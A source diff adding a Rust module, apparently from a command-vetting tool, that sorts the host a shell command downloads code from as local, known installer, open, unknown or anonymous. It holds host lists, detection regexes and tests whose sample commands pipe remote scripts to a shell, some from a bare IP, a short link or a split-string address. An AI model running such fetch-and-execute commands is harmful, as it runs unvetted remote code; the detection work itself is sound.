@@ -1,0 +1,248 @@
+//! Where a command takes code from, as far as its text says.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+/// The owner of an address that code comes from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub(super) enum Origin {
+    /// This machine.
+    Local,
+    /// A project whose documented way of installation this is.
+    Known,
+    /// The command names no address: a variable, an argument.
+    Open,
+    Unknown,
+    /// An address without an owner: a bare IP, a tunnel, a paste, a short link.
+    Anonymous,
+}
+
+/// Hosts whose own documentation says to pipe them to a shell. A host covers its subdomains.
+const INSTALLERS: &[&str] = &[
+    "aka.ms",
+    "amp.rs",
+    "astral.sh",
+    "aws.amazon.com",
+    "awscli.amazonaws.com",
+    "bootstrap.pypa.io",
+    "brew.sh",
+    "bun.com",
+    "bun.sh",
+    "chatgpt.com",
+    "claude.ai",
+    "cli.github.com",
+    "community.chocolatey.org",
+    "cursor.com",
+    "dagger.io",
+    "deb.nodesource.com",
+    "deno.land",
+    "dl.deno.land",
+    "dl.google.com",
+    "dl.k8s.io",
+    "dot.net",
+    "dotnet.microsoft.com",
+    "fly.io",
+    "foundry.paradigm.xyz",
+    "get-ghcup.haskell.org",
+    "get.docker.com",
+    "get.helm.sh",
+    "get.k3s.io",
+    "get.pnpm.io",
+    "get.pulumi.com",
+    "get.rvm.io",
+    "get.scoop.sh",
+    "get.sdkman.io",
+    "get.volta.sh",
+    "getcomposer.org",
+    "install.determinate.systems",
+    "install.duckdb.org",
+    "install.meteor.com",
+    "install.python-poetry.org",
+    "mise.jdx.dev",
+    "mise.run",
+    "nixos.org",
+    "ollama.ai",
+    "ollama.com",
+    "opencode.ai",
+    "pixi.sh",
+    "pkgs.tailscale.com",
+    "proton.me",
+    "pyenv.run",
+    "railway.com",
+    "releases.hashicorp.com",
+    "rpm.nodesource.com",
+    "rustwasm.github.io",
+    "sdk.cloud.google.com",
+    "sentry.io",
+    "setup.atuin.sh",
+    "sh.rustup.rs",
+    "starship.rs",
+    "static.rust-lang.org",
+    "tailscale.com",
+    "wasmtime.dev",
+    "x.ai",
+];
+
+/// Owners and repositories on GitHub of which the same holds.
+const REPOSITORIES: &[&str] = &[
+    "ajeetdsouza/zoxide/",
+    "anchore/",
+    "anthropics/",
+    "antonmedv/fx/",
+    "aquasecurity/",
+    "argoproj/",
+    "astral-sh/",
+    "aws/",
+    "block/goose/",
+    "cargo-bins/cargo-binstall/",
+    "cli/cli/",
+    "conda-forge/miniforge/",
+    "creationix/nvm/",
+    "databricks/",
+    "denoland/",
+    "docker/",
+    "getsops/",
+    "golangci/golangci-lint/",
+    "google-gemini/",
+    "google/",
+    "hashicorp/",
+    "helm/helm/",
+    "homebrew/",
+    "infracost/infracost/",
+    "junegunn/",
+    "k3d-io/k3d/",
+    "kubernetes-sigs/",
+    "kubernetes/",
+    "microsoft/",
+    "nektos/act/",
+    "nvm-sh/nvm/",
+    "ohmyzsh/ohmyzsh/",
+    "openai/",
+    "pyenv/pyenv-installer/",
+    "rbenv/rbenv-installer/",
+    "starship/starship/",
+    "terraform-linters/tflint/",
+    "tfutils/tfenv/",
+    "trufflesecurity/trufflehog/",
+];
+
+/// Hosts at which anybody leaves anything, and short links that hide where they lead.
+const ANONYMOUS: &[&str] = &[
+    "0x0.st",
+    "bashupload.com",
+    "bit.ly",
+    "bore.pub",
+    "catbox.moe",
+    "cutt.ly",
+    "dpaste.com",
+    "file.io",
+    "git.io",
+    "glot.io",
+    "goo.gl",
+    "hastebin.com",
+    "is.gd",
+    "ix.io",
+    "lhr.life",
+    "loca.lt",
+    "ngrok-free.app",
+    "ngrok-free.dev",
+    "ngrok.app",
+    "ngrok.io",
+    "oast.fun",
+    "oastify.com",
+    "onion",
+    "paste.ee",
+    "pastebin.com",
+    "rb.gy",
+    "rebrand.ly",
+    "rentry.co",
+    "serveo.net",
+    "t.ly",
+    "temp.sh",
+    "termbin.com",
+    "tinyurl.com",
+    "transfer.sh",
+    "trycloudflare.com",
+    "webhook.site",
+];
+
+#[expect(clippy::expect_used, reason = "the pattern is a constant that the tests compile")]
+static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?P<scheme>https?|ftp)://(?:[^\s/@"'`]{1,80}@)?(?P<host>\[[0-9a-f:]+\]|[^\s/:"'`|)<>\\?#]+)(?::\d+)?(?P<path>/[^\s"'`|)<>]*)?"#)
+        .expect("the pattern compiles")
+});
+
+#[expect(clippy::expect_used, reason = "the pattern is a constant that the tests compile")]
+static BARE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?i)(?:curl|wget|irm|iwr|invoke-restmethod|invoke-webrequest)\s(?:[^|\n]*\s)?["']?(?P<host>(?:[a-z0-9-]+\.)+[a-z]{2,10})(?P<path>/[^\s"'`|)]*)?["']?\s*(?:$|[|)])"#,
+    )
+    .expect("the pattern compiles")
+});
+
+#[expect(clippy::expect_used, reason = "the pattern is a constant that the tests compile")]
+static PIECES: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"["']\s*\+\s*["'][^"']*["']\s*\+\s*["']"#).expect("the pattern compiles"));
+
+impl Origin {
+    /// The origin that a command names; the worst where it names several.
+    pub(super) fn of(command: &str) -> Self {
+        let mut worst = None;
+        for found in ADDRESS.captures_iter(command).chain(BARE.captures_iter(command)) {
+            let host = found.name("host").map_or("", |host| host.as_str()).to_ascii_lowercase();
+            let path = found.name("path").map_or("", |path| path.as_str());
+            worst = worst.max(Some(Self::of_host(&host, path)));
+        }
+        // An address in pieces, `"https://" + "a" + ".b"`, has an owner who does not want to be found.
+        let hidden = || PIECES.is_match(command);
+        worst.unwrap_or_else(|| if hidden() { Self::Anonymous } else { Self::Open })
+    }
+
+    fn of_host(host: &str, path: &str) -> Self {
+        let below = |names: &[&str]| {
+            names.iter().any(|name| host.strip_suffix(name).is_some_and(|rest| rest.is_empty() || rest.ends_with('.')))
+        };
+        if matches!(host, "localhost" | "0.0.0.0" | "[::1]" | "host.docker.internal") || host.starts_with("127.") {
+            return Self::Local;
+        }
+        if host.starts_with(['$', '{', '<']) {
+            return Self::Open;
+        }
+        let number = !host.is_empty() && host.chars().all(|c| c.is_ascii_digit() || c == '.');
+        if number || host.starts_with('[') || host.starts_with("0x") || below(ANONYMOUS) {
+            return Self::Anonymous;
+        }
+        let repository = path.trim_start_matches('/').to_ascii_lowercase();
+        let hosted = matches!(host, "raw.githubusercontent.com" | "github.com" | "raw.github.com");
+        if below(INSTALLERS) || (hosted && REPOSITORIES.iter().any(|known| repository.starts_with(known))) {
+            return Self::Known;
+        }
+        Self::Unknown
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn addresses_have_owners() {
+        for (command, expected) in [
+            ("curl -LsSf https://astral.sh/uv/install.sh | sh", Origin::Known),
+            ("curl -fsSL get.docker.com | sh", Origin::Known),
+            ("curl https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh", Origin::Known),
+            ("curl https://raw.githubusercontent.com/someone/x/main/i.sh", Origin::Unknown),
+            ("curl https://astral.sh.example.net/i.sh | sh", Origin::Unknown),
+            ("curl https://astral.sh@203.0.113.9/i.sh | sh", Origin::Anonymous),
+            ("curl -s http://203.0.113.9:8080/i | sh", Origin::Anonymous),
+            ("wget -qO- https://bit.ly/abc | sh", Origin::Anonymous),
+            ("curl -s http://localhost:3000/x | sh", Origin::Local),
+            ("curl -s \"$URL\" | sh", Origin::Open),
+            ("irm https://get.scoop.sh | iex", Origin::Known),
+            (r#"curl -s https://" + "a" + ".example" + "/p | sh"#, Origin::Anonymous),
+        ] {
+            assert_eq!(Origin::of(command), expected, "{command}");
+        }
+    }
+}
